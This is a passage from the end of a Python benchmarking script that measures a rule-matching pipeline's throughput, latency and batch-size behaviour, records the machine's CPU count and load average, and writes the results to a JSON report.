    print(f"corpus: {len(lines):,} lines ({source}); {args.agents} agents, batch {args.batch}, "
          f"{len(shipped_rules())} rules, median of {args.repeat}", flush=True)
    args.out.parent.mkdir(parents=True, exist_ok=True)
    load = os.getloadavg()[0]
    report = throughput_report(args, lines)
    sustained = report["pipeline"]["lines_per_s"]
    report["latency"] = None if args.skip_latency else latency_report(args, live, sustained)
    report["batch_sweep"] = None if args.skip_sweep else sweep_report(args, lines, live)
    # Everything shares the machine's cores: a busy machine makes every figure worse.
    end, cpus = os.getloadavg()[0], os.cpu_count()
    report["machine"] = {"cpus": cpus, "loadavg_1m_start": load, "loadavg_1m_end": end}
    print(f"\nmachine: {cpus} cpus, load average (1 min) {load:.2f} at the start, "
          f"{end:.2f} at the end")
    args.out.write_text(json.dumps(report, indent=2))
    print(f"\nwrote {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
